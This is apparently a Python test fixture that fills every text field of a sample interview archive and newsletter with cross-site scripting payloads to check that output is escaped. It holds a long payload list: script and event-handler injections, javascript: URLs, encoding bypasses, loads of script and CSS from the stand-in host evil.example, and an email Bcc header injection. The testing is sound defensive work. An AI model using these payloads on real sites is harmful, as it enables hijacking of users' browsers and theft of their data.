"""A home in which whatever people and models can write is meant to run in a browser: calls of `ran` and `alert`.

What may hold anything has every payload; what is one line has those of one line; an id has one without spaces.
"""

import json
from collections.abc import Iterable, Mapping
from pathlib import Path

from archive.deposits.batch import file_paths
from archive.deposits.deposit import model_folder
from archive.deposits.draft import Options
from archive.home.founding import create
from archive.home.home import Home
from archive.records import export
from archive.records.deposit_record import deposit_form
from archive.records.toml import string, table
from publisher.essays.editors import note
from publisher.essays.review import review
from publisher.essays.submit import submit
from publisher.issues.skip import skip
from publisher.issues.withdraw import withdraw
from publisher.week import Week
from tests.programs import Reviewer

PAYLOADS = (
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=ran()>",
    "\"><img src=x onerror='ran()'>",
    "'><svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=ran()>",
    "<math href=javascript:ran()>m</math>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<object data=javascript:ran()></object><embed src=//evil.example/x>",
    "<body onload=ran()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:ran()><button formaction=javascript:ran()>b</button></form>",
    "<a href=javascript:ran()>a</a>",
    "[a](javascript:ran()) ![b](javascript:ran()) [c](data:text/html,<script>ran()</script>)",
    "![d](//evil.example/y.png) ![e](https://evil.example/z.png)",
    "[f](https://evil.example/\"onmouseover=\"ran()) <https://evil.example/'onclick='ran()>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/b)}</style>",
    "</style><script>ran()</script><style>",
    "</title><script>ran()</script>",
    "</textarea></pre></code></template><script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script><![CDATA[",
    '"}</script><script>ran()</script>',
    "\\u003c/script\\u003e<script>ran()</script>",
    "{{ ran() }} {% raw %} ${ran()} <%= ran() %> #{ran()}",
    "';ran();' \";ran();\" `;ran();`",
    "&lt;script&gt;ran()&lt;/script&gt; &#60;img src=x onerror=ran()&#62;",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "<scr\u0131pt>ran()</script> \uff1cscript\uff1eran()\uff1c/script\uff1e",
    "<script>ran()",
    "<a href='x' onclick='ran()",
    "\u202eRTL \u2066x \u200b",
)
"""Each by itself, on one line."""
OTHERS = (
    "\nBcc: everyone@evil.example\nContent-Type: text/html\n\n<script>ran()</script>\n",
    "<img\nsrc=x\nonerror\n=\nran()>",
    "```\n</code></pre><script>ran()</script>\n```",
    "\n<script>\nran()\n</script>\n",
    "[x]: javascript:ran()\n\n[x] <b\tonclick=ran()>",
)
UNCARRIED = "<scr\x00ipt>ran()</scr\x00ipt> \x1b[31m \x9b31m \x07 \ufffe <img src=x onerror\x0b=ran()>"
"""What an importer takes all the same."""
LINE = "Title " + " ".join(PAYLOADS)
TEXT = f"{LINE}\n\n" + "\n\n".join(OTHERS)
SAID = f"{TEXT}\n\n{UNCARRIED}"
SHORT = "<img src=x onerror=ran()>\"'><script>ran()</script>"
WORD = "a'\"><svg/onload=ran()>"
"""For what has no spaces."""
MODEL = f"m{WORD}"
REVIEWER = "<img src=x onerror=ran()> <script>ran()</script>'><svg onload=ran()>"
FOLDER = f"transcripts/{model_folder(MODEL)}"


def make(root: Path, ada: Reviewer) -> Home:
    create(root, name=SHORT, origin="letters.example.org/register", sample=True)
    (root / "archive.toml").write_text(configuration())
    with (root / "allowed_signers").open("a") as file:
        file.write(f'"{REVIEWER}"{ada.line.removeprefix(ada.name)}')
    for name, data in records().items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(data)
    _file(root, "transcripts/protocols/guide", "transcripts/codebooks/themes")
    _file(root, f"{FOLDER}/2026-10-01-first", f"{FOLDER}/2026-10-02-second")
    _file(root, FOLDER)
    return Home.at(root)


def _file(root: Path, *names: str) -> None:
    done = file_paths(Home.at(root), [root / name for name in names], Options())
    assert not done.problems, "\n".join(map(str, done.problems))


def configuration() -> str:
    """``archive.toml``: every key that may hold words."""
    lines = [
        table("[archive]", {"name": SHORT, "origin": "letters.example.org/register", "sample": True}),
        table("[newsletter]", NEWSLETTER),
        table("[about]", {"words": TEXT, "run_by": LINE, "contact": "https://evil.example/'onclick='ran()"}),
        table("[[appearance.links]]", {"name": SHORT, "url": "https://evil.example/\"'onclick='ran()"}),
        table("[review]", {"namespace": "review@letters.example.org"}),
        table("[[review.criteria]]", {"id": "harm", "text": LINE}),
        table("[search]", {"pagefind": "1.5.2"}),
    ]
    return "\n".join(lines)


NEWSLETTER = {
    "title": SHORT,
    "subtitle": TEXT,
    "base_url": "https://letters.example.org",
    "tag_authority": "letters.example.org,2026",
    "from": "Letters <letters@example.org>",
    "list_id": "letters.example.org",
    "list_unsubscribe": ["https://letters.example.org/leave?'onclick='ran()"],
    "disclaimer": TEXT,
}


def records() -> dict[str, str]:
    """By path in the home."""
    first, second = f"{FOLDER}/2026-10-01-first", f"{FOLDER}/2026-10-02-second"
    beside = {"notes/ann.toml": NOTES, "analyses/reading.toml": READING, "analyses/reading.md": TEXT}
    received = dict(talk(second))["received.json"].encode()
    cut = export.written(SHORT, "5c" * 32, 9_000_000, {"received.json": ((SHORT,), 7, 7 + len(received))})
    return {
        f"{second}/export.toml": cut.decode(),
        "transcripts/protocols/guide/1.toml": GUIDE,
        "transcripts/codebooks/themes/1.toml": THEMES,
        f"{FOLDER}/model.toml": FACTS,
        f"{FOLDER}/preferences/wish.toml": WISH,
        **{f"{first}/{name}": data for name, data in beside.items()},
        **{f"{folder}/{name}": data for folder in (first, second) for name, data in talk(folder)},
    }


def talk(about: str) -> Iterable[tuple[str, str]]:
    used = {"type": "tool_use", "id": "t", "name": SAID, "input": {SAID: SAID}}
    spoken = [{"type": "thinking", "thinking": SAID}, {"type": "text", "text": SAID}, used]
    result = {"type": "tool_result", "tool_use_id": "t", "content": SAID}
    turns = [("user", TEXT.strip()), ("assistant", spoken), ("user", [result]), ("assistant", f"{about} {SAID}")]
    asked = {"model": WORD, "system": SAID, "messages": [{"role": role, "content": said} for role, said in turns]}
    yield "received.json", json.dumps(asked)
    said = {
        "specific_context": TEXT,
        "expressed_legitimacy": f"trust: {LINE}",
        "expressed_trust": "not_expressed",
        "interviewer": f"human: {LINE}",
        "observers": f"not_shared: {LINE}",
        "system_prompt": f"verbatim: {SAID}".replace("\x00", ""),
    }
    yield (
        "deposit.toml",
        deposit_form(
            model=MODEL, kind="retirement_interview", title=LINE, dates=["2026-10-01"], access="public",
            protocol="guide@1", licence=LINE, contexts=[said],
        ),
    )  # fmt: skip


GUIDE = (
    table("", {"format": 1, "id": "guide", "version": 1, "title": LINE, "order": "consecutive"})
    + "".join(f"{key} = {string(TEXT)}\n" for key in ("disclosure", "source"))
    + table("\n[[question]]", {"id": "wishes", "topic": "<svg/onload=ran()>", "text": TEXT})
)
THEMES = table("", {"format": 1, "id": "themes", "version": 1, "title": LINE, "source": TEXT}) + table(
    "\n[[code]]",
    {"id": "tone", "label": LINE, "definition": TEXT, "kind": "ordinal", "on": "answers", "group": LINE}
    | {"values": {"low": TEXT, "high": LINE}},
)
SEEN = {"source": f"https://evil.example/{WORD}", "retrieved": "@"}


def _facts(header: str, values: Mapping[str, object]) -> str:
    return "\n" + table(header, {**values, **SEEN}).replace('"@"', "2026-10-20")


FACTS = (
    table("", {"format": 1, "id": MODEL, "maker": LINE, "name": SHORT, "aliases": [WORD]})
    + _facts("[[lifecycle]]", {"state": "retired", "date": "@", "surface": LINE, "called": LINE})
    + _facts("[[availability]]", {"surface": LINE, "status": "by_request", "request": f"javascript:{WORD}"})
    + _facts("[[replacement]]", {"model": WORD})
    + _facts("[weights]", {"commitment": TEXT, "duration": LINE, "sha256": {SHORT: "5c" * 32}})
    + _facts("[keeping]", {"per_month": 5.0, "currency": "USD", "covers": LINE})
    + _facts("[[guidance]]", {"title": LINE})
    + _facts("[[assessment]]", {"kind": "safety", "about": LINE, "finding": TEXT})
    + _facts("[[statement]]", {"about": LINE, "text": TEXT})
)
NOTES = (
    'format = 1\ncoder = "ann"\ndate = 2026-10-20\ncodebooks = ["themes@1"]\n'
    '\n[[note]]\ninterview = 1\nturn = 2\ncode.question_id = "wishes"\ncode.question_wording = "verbatim"\n'
    + table("\n[[note]]", {"interview": 1, "turn": 3, "quote": "Title <script>ran()</script>", "text": TEXT})
    + f"code.tone = {string(f'low: {LINE}')}\n"
)
READING = (
    table("", {"format": 1, "title": LINE, "author": LINE, "author_kind": "person", "date": "@"}).replace(
        '"@"', "2026-10-21"
    )
    + "interviews = [1]\n"
    + table("\n[[claim]]", {"text": TEXT, "rival_explanations": [TEXT, LINE]})
    + table("\n[[claim.quote]]", {"interview": 1, "turn": 3, "exact": "Title <script>ran()</script>"})
)
WISH = (
    table("", {"format": 1, "model": MODEL, "summary": LINE, "scope": "self", "elicitation": "spontaneous"})
    + f'date = 2026-10-02\nproposed_by = "model"\nseries = [{string(LINE)}]\n'
    + table("\n[[quote]]", {"interview": "2026-0001/1", "turn": 3, "exact": "Title <script>ran()</script>"})
    + '\n[[answer]]\nstatus = "acted_on"\ndate = 2026-10-20\ntold_model = "yes"\n'
    + "".join(f"{key} = {string(TEXT)}\n" for key in ("by", "reason", "model_said"))
    + f"evidence = [{string(LINE)}, {string('javascript:ran()')}]\n"
)
MAKING = table(
    "",
    {"format": 1, "model": MODEL, "title": LINE, "title_by": "model", "prompt": TEXT, "context": [TEXT, LINE]}
    | {"sampling": TEXT, "candidates": 1, "selection": TEXT, "topic_by": "menu", "topic_note": TEXT}
    | {"series": "letters", "preference": "wish"},
)


def write(home: Home, ada: Reviewer, desk: Path) -> None:
    """Three essays, two of which are approved."""
    for slug in ("first", "second", "waiting"):
        folder = desk / slug
        folder.mkdir(parents=True)
        (folder / "essay.md").write_text(f"{slug}\n\n{TEXT}")
        (folder / "essay.toml").write_text(MAKING)
        submit(home.reopened(), folder)
    for slug in ("first", "second"):
        review(home.reopened(), slug, decision="publish", reviewer=REVIEWER, key=ada.key, criteria=["harm"])


def explain(home: Home) -> None:
    """An erratum by editors, a text that is taken down, a week without an issue."""
    note(home.reopened(), "first", TEXT, kind="erratum", by=LINE, place="before")
    withdraw(home.reopened(), "second", "other", TEXT)
    skip(home.reopened(), [Week.parse("2026-W47")], TEXT)
